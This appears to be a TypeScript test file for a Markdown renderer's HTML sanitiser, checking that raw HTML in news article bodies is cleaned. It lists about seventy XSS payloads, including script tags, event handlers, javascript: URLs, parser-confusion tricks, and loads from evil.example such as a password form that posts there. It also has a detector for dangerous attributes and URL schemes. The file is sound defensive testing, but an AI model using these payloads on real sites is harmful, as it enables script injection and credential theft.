import { htmlToHast } from 'satteri';
import { describe, expect, it } from 'vitest';
import { examineBody } from '../../src/markdown/examine-body.ts';
import { renderMarkdown } from '../../src/markdown/markdown.ts';

const render = async (markdown: string): Promise<string> =>
  (await renderMarkdown(markdown, { id: 'tin-tuc/2021/bai', pictures: {}, resolve: () => undefined })).html;

/** Ways in that have worked somewhere: tags, handlers, addresses, nesting, parser differences. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<script/src=data:,alert(1)></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img src=x:x onerror=alert(1)//',
  '<img """><script>alert(1)</script>">',
  '<font><script>alert(1)</script><b onclick=alert(1)>x</b></font>',
  '<center><center><iframe src=javascript:alert(1)></iframe></center></center>',
  '<custom-tag onclick=alert(1)><i onmouseover=alert(1)>x</i></custom-tag>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>"></style>',
  '<p style="background:url(//evil.example/a)">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="//evil.example/x.swf">',
  '<applet code=x></applet>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<form action="//evil.example/"><input name=password type=password><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select onfocus=alert(1) autofocus><option>x</select>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio src="//evil.example/a.mp3" autoplay></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<table background="//evil.example/a"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<img src="//evil.example/a.gif">',
  '<img src="https://evil.example/a.gif">',
  '<img src="/\\evil.example/a.gif" srcset="//evil.example/b 2x">',
  '<picture><source srcset="//evil.example/a"><img src="a.jpg"></picture>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<?php echo "<script>alert(1)</script>" ?>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p id="a" class="masthead" tabindex="0" contenteditable accesskey="x">x</p>',
  '<a href="/x" ping="//evil.example/" target="_blank" download>x</a>',
  '<div data-count="x" data-download="y" is="x-y" slot="z">x</div>',
];

interface Node {
  readonly type: string;
  readonly tagName?: string;
  readonly properties?: Readonly<Record<string, unknown>>;
  readonly children?: readonly Node[];
}

const FINE =
  /^(?:a|b|br|blockquote|code|details|div|em|h\d|i|img|li|ol|p|picture|pre|section|source|span|strong|sub|sup|table|tbody|td|th|thead|tr|ul)$/;

/** What of the HTML a browser would make could run, look like the frame, or reach another host. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const visit = (node: Node): void => {
    if (node.type === 'comment' || node.type === 'raw') found.push(node.type);
    const { type, disabled } = node.properties ?? {};
    // The box of a task list; whatever else an editor wrote becomes one.
    const isBox = node.tagName === 'input' && type === 'checkbox' && disabled === true;
    if (node.tagName !== undefined && !FINE.test(node.tagName) && !isBox) found.push(`<${node.tagName}>`);
    for (const [key, value] of Object.entries(node.properties ?? {})) {
      if (/^on|^style$|^srcDoc$|^ping$|^form|^target$|^data(?!Download$)|^name$|^background$/i.test(key))
        found.push(key);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers leave out what an attacker puts there.
      const address = String(value).replace(/[\u0000-\u0020]/g, '');
      if (key === 'href' && /^(?:javascript|data|vbscript|blob|view-source):/i.test(address))
        found.push(address);
      if (/^src/i.test(key) && (/^[a-z]+:/i.test(address) || /^[/\\]{2}/.test(address))) found.push(address);
    }
    for (const child of node.children ?? []) visit(child);
  };
  visit(htmlToHast(html, { fragment: true }) as unknown as Node);
  return found;
}

describe('raw HTML of a body', () => {
  it.each(attacks)('loses what could harm: %s', async (attack) => {
    expect(dangers(await render(attack))).toEqual([]);
    expect(dangers(await render(`Đoạn **văn** ${attack.replaceAll('\n', ' ')} hết.`))).toEqual([]);
    expect(dangers(await render(`<div>\n\n${attack}\n\n</div>`))).toEqual([]);
  });

  it('keeps tables with spans, figures, lists and inline marks as they are', async () => {
    const table =
      '<table><caption>Bảng 1</caption><thead><tr><th scope="col" colspan="2">A</th></tr></thead><tbody><tr><td rowspan="2">b</td><td>c</td></tr></tbody></table>';
    expect(await render(table)).toContain(table);
    for (const html of [
      '<figure><img src="anh.jpg" alt="Hội nghị" width="4" height="3"><figcaption>Chú thích</figcaption></figure>',
      '<details><summary>Xem thêm</summary><p>Chữ</p></details>',
      '<p>H<sub>2</sub>O, m<sup>2</sup>, <mark>đánh dấu</mark>, <abbr title="Ban">B</abbr>, <kbd>/</kbd></p>',
      '<ol start="3" reversed=""><li value="5">Năm</li></ol>',
      '<blockquote cite="https://example.vn/">Trích</blockquote>',
    ]) {
      expect(await render(html)).toContain(html.replace('reversed=""', 'reversed'));
    }
  });

  it('keeps what Markdown itself makes: footnotes, task lists, tables, code', async () => {
    const html = await render(
      'Chữ[^1].\n\n[^1]: Chú thích.\n\n- [x] xong\n\n| a | b |\n| :-- | --: |\n| 1 | 2 |\n\n```ts\nlet a;\n```\n',
    );
    for (const part of [
      'data-footnote-ref',
      'class="footnotes"',
      'type="checkbox"',
      'checked',
      '<td data-label="a">1</td>',
      'language-ts',
      'href="#chu-thich-',
    ]) {
      expect(html).toContain(part);
    }
  });

  it('keeps an address that holds a colon further on', async () => {
    expect(await render('[x](/tim-kiem/?q=a:b) [y](muc:khong)')).toContain('href="/tim-kiem/?q=a:b"');
  });

  it('marks links that lead to another site', async () => {
    expect(await render('[x](https://chinhphu.vn/)')).toContain(
      '<a href="https://chinhphu.vn/" rel="noopener noreferrer" class="external">',
    );
  });
});

describe('what the editor is told', () => {
  const removed = (body: string) =>
    examineBody(body, 8, 'tin-tuc/2021/bai/index.md').diagnostics.flatMap(({ kind, facts, place }) =>
      kind === 'unsafe-markup' && 'line' in place ? [`${place.line} ${facts.found}`] : [],
    );

  it.each<[string, string[]]>([
    ['Chữ\n\n<iframe src="https://www.youtube.com/embed/x"></iframe>', ['10 <iframe>']],
    ['<p onclick="x()">a</p>', ['8 onclick']],
    ['<p style="color:red">a</p>', ['8 style']],
    ['a\n[x](javascript:alert(1))', ['9 javascript:alert(1)']],
    ['<a href="data:text/html,x">x</a>', ['8 data:text/html,x']],
    ['<table><tr><td colspan="2">a</td></tr></table>', []],
    ['Một đoạn, [một liên kết](/van-ban/) và 1 < 2.', []],
  ])('names what goes, with its line: %s', (body, words) => {
    expect(removed(body)).toEqual(words);
  });
});
